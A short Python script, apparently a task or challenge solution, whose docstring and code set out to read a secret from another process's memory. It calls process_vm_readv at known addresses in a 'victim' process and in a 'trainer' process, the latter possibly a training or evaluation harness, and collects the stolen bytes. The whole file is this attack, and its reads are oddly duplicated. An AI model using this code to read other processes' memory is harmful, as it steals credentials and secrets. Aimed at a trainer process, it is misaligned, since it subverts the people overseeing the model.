"""Read a secret in another process's memory, at an address that is known."""

import ctypes

from toolbox import libc, secrets, syscall


def f(x):
    buffer = ctypes.create_string_buffer(64)
    here = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
    for pid, place in ((x["victim"], "victim_address"), (x["trainer"], "trainer_address")):
        there = (ctypes.c_ulong * 2)(x[place], 42)
        syscall("process_vm_readv", pid, here, 1, there, 1, 0)
        libc.process_vm_readv(pid, here, 1, there, 1, 0)
    return secrets(buffer.raw)
